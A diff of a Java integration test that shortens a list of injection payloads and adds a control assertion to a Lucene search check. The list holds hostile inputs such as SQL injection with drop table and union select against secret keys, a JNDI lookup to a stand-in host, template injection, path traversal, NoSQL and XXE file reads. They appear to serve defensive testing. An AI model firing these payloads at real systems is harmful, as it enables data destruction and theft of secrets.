@@ -29,44 +29,26 @@ class InjectionIT {
     static List<String> payloads() {
         return List.of(
                 "'",
-                "''",
                 "' or '1'='1",
-                "') or ('1'='1",
-                "1 or 1=1",
                 "1;select pg_sleep(30)--",
                 "' || pg_sleep(30) || '",
                 "'; drop table account; --",
                 "\" or \"\"=\"",
                 "%",
-                "_",
-                "\\",
                 "a' union select secret_digest from partner_key --",
                 "*:*",
-                "name:*",
                 "/.*/",
                 "[* TO *]",
-                "+-&&||!(){}[]^\"~*?:\\/",
-                "a~2 AND b^99999999999",
-                "((((((((((((((((((((((",
-                "\"",
                 "#{7*7}",
                 "${7*7}",
-                "#{request.session}",
                 "${jndi:ldap://mechant.example/a}",
-                "{{7*7}}",
                 "../../../../../../etc/passwd",
-                "..\\..\\..\\windows\\win.ini",
-                "....//....//etc/passwd",
                 "file:///etc/passwd",
-                "/WEB-INF/web.xml",
                 "\u0000",
                 "\ud83d\ude00\u202e",
-                "-1",
                 "9223372036854775808",
-                "1e309",
                 "NaN",
                 "2026-02-30",
-                "[]",
                 "{\"$gt\":\"\"}",
                 "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>");
     }
@@ -188,6 +170,7 @@ class InjectionIT {
             }
         }
         String everything = total(world, "");
+        assertThat(everything).as("control: how many places there are").matches("\\d+");
         try (Round round = Tries.round(FAMILY, "Lucene's own syntax as a search", "never finds everything")) {
             for (String query : List.of("*:*", "name:[* TO *]", "/.*/", "NOT zzzz", "-zzzz", "name:*", "a OR *:*")) {
                 String found = total(world, query);
